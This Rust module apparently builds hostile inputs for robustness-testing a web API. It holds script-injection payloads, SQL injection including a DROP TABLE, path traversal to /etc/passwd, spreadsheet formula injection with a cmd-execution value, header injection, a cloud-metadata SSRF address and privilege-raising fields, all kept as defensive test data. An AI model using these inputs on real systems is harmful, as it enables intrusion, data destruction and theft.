//! The inputs themselves, and where in a body they can stand.

use serde_json::{Value, json};

use super::sample;

/// C1, C2 and C5 as far as they are texts.
pub fn texts() -> Vec<String> {
    let long = |part: &str, times: usize| part.repeat(times);
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' autofocus onfocus=alert(1) x='",
        "</title><svg onload=alert(1)>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "{{7*7}}{% raw %}${7*7}",
        "<style>*{display:none}</style>",
        "A\u{202e}gnp.exe",
        "Аnnа",
        "Anna\u{200d}\u{200b}",
        "",
        "   ",
        "\u{a0}",
        "a\0b",
        "👩🏽‍🚀 العربية İıß ẞ",
        "x\r\nSet-Cookie: x=1",
        "\u{2028}",
        "\n2026-01-01 INFO admin login ok",
        "' OR 1=1--",
        "'); DROP TABLE ballots;--",
        "%' ESCAPE '%",
        "../../../../etc/passwd",
        "..%2f..%252e",
        "=HYPERLINK(\"http://x?\"&A1)",
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t-2+3",
        "＝1+1",
        "\nATTENDEE:mailto:x@example.org",
        "a@example.org\nBcc: all@example.org",
        "#import \"/etc/passwd\" \\input{/etc/passwd}",
        "http://169.254.169.254/",
        "//evil.example",
        "9223372036854775808",
        "-1",
        "1e309",
        "NaN",
        "1 ",
        "١٢",
        "2025-02-29",
        "0000-00-00",
        "99999-12-31",
        "2026-13-45T25:61:61Z",
    ]
    .map(str::to_owned)
    .into_iter()
    .chain([
        long("e\u{301}\u{302}", 500),
        long("x", 200_000),
        long("9", 400),
    ])
    .collect()
}

/// The same as JSON, and what is no text.
pub fn values() -> Vec<String> {
    let mut values: Vec<_> = texts().iter().map(|text| json!(text).to_string()).collect();
    values.extend(
        [
            "null",
            "true",
            "[]",
            "{}",
            "0",
            "-1",
            "1.5",
            "1e309",
            "-0",
            "9223372036854775807",
            "9223372036854775808",
            "18446744073709551616",
            "\"\\ud800\"",
            "[[[[]]]]",
            "[\"a\",\"a\",\"a\"]",
            "{\"a\":{\"b\":1}}",
            "NaN",
            "01",
        ]
        .map(str::to_owned),
    );
    values
}

/// Whole bodies that are nobody's JSON.
pub fn bodies() -> Vec<Vec<u8>> {
    let deep = |sign: &str| sign.repeat(50_000).into_bytes();
    vec![
        Vec::new(),
        b"null".to_vec(),
        b"[]".to_vec(),
        b"\"x\"".to_vec(),
        b"{".to_vec(),
        b"{\"a\":1,\"a\":2}".to_vec(),
        b"\xff\xfe\x00".to_vec(),
        b"\xef\xbb\xbf{}".to_vec(),
        deep("["),
        deep("{\"a\":"),
        b"PK\x03\x04\x14\x00\x00\x00".to_vec(),
        b"%PDF-1.7\n".to_vec(),
        b"\x1f\x8b\x08\x00".to_vec(),
        b"Name;Name\n=1+1;\"".to_vec(),
        [b"a;b\n\"".to_vec(), vec![b'x'; 40_000], b"\";1\n".to_vec()].concat(),
        b"a,".repeat(10_000),
        b"a\r\n".repeat(20_000),
    ]
}

/// Ids and words in addresses.
pub const SEGMENTS: [&str; 13] = [
    "0",
    "-1",
    "9223372036854775807",
    "9223372036854775808",
    "1e3",
    "%00",
    "%ff%fe",
    "..%2f..%2fetc%2fpasswd",
    "%252e%252e",
    "'%20OR%201=1--",
    "%D9%A3",
    "%F0%9F%92%A9",
    "1;DROP",
];

pub const HEADERS: [(&str, &str); 14] = [
    ("if-match", "\""),
    ("if-match", "*"),
    ("if-match", "W/\"1\""),
    ("if-match", "\"9223372036854775808\""),
    ("if-match", "\"-1\", \"1\""),
    ("accept-language", "de-DE-1996-x-private;q=2, *;q=-1, ,,"),
    ("accept", "text/html;q=NaN, */*;q=1e309"),
    ("x-forwarded-for", "127.0.0.1, 1.2.3.4, nonsense"),
    ("content-type", "application/json; charset=utf-7"),
    ("content-type", "text/plain"),
    ("content-type", "multipart/form-data"),
    ("content-encoding", "gzip"),
    ("authorization", "Bearer ' OR 1=1--"),
    ("date", "Mon, 01 Jan 1900 00:00:00 GMT"),
];

/// Fields that belong to nothing here (row 57).
pub const FOREIGN: [(&str, &str); 8] = [
    ("id", "1"),
    ("role", "\"installation_admin\""),
    ("federation_id", "2"),
    ("tenant_id", "2"),
    ("state", "\"published\""),
    ("weight", "1000"),
    ("used", "false"),
    ("revision", "1"),
];

/// A value with everything that a schema names.
pub fn full(spec: &Value, schema: &Value, depth: usize) -> Value {
    if depth > 8 {
        return Value::Null;
    }
    if let Some(reference) = schema["$ref"].as_str() {
        let found = reference
            .trim_start_matches("#/")
            .split('/')
            .fold(spec, |at, segment| &at[segment]);
        return full(spec, found, depth + 1);
    }
    if let Some(all) = schema["allOf"].as_array() {
        let mut value = json!({});
        for part in all {
            match full(spec, part, depth + 1) {
                Value::Object(fields) => value.as_object_mut().unwrap().extend(fields),
                other => return other,
            }
        }
        return value;
    }
    for several in ["oneOf", "anyOf"] {
        if let Some(first) = schema[several].get(0) {
            return full(spec, first, depth + 1);
        }
    }
    match schema["type"].as_str() {
        Some("object") => {
            let properties = schema["properties"].as_object().into_iter().flatten();
            properties
                .map(|(name, schema)| (name.clone(), full(spec, schema, depth + 1)))
                .collect()
        }
        Some("array") => Value::Array(vec![full(spec, &schema["items"], depth + 1)]),
        _ => sample(spec, schema),
    }
}

/// Pointers to every part of a value, the whole one apart.
pub fn leaves(value: &Value) -> Vec<String> {
    let mut found = Vec::new();
    let mut add = |name: String, value: &Value| {
        found.push(format!("/{name}"));
        found.extend(
            leaves(value)
                .into_iter()
                .map(|below| format!("/{name}{below}")),
        );
    };
    match value {
        Value::Object(fields) => fields
            .iter()
            .for_each(|(name, value)| add(name.clone(), value)),
        Value::Array(items) => items
            .iter()
            .enumerate()
            .for_each(|(n, value)| add(n.to_string(), value)),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
    found
}

/// Gives what a schema calls a text a value that the program can read, so that the rest of the body is read as well.
pub fn plausible(value: &mut Value) {
    match value {
        Value::Object(fields) => {
            for (name, value) in fields {
                let readable = match name.as_str() {
                    name if name.ends_with("_at") => "2027-05-04T08:00:00Z",
                    name if name.contains("day")
                        || name.ends_with("_on")
                        || name.contains("date") =>
                    {
                        "2026-05-04"
                    }
                    name if name.contains("email") => "post@example.org",
                    _ => "",
                };
                if value.is_string() && !readable.is_empty() {
                    *value = json!(readable);
                }
                plausible(value);
            }
        }
        Value::Array(items) => items.iter_mut().for_each(plausible),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}
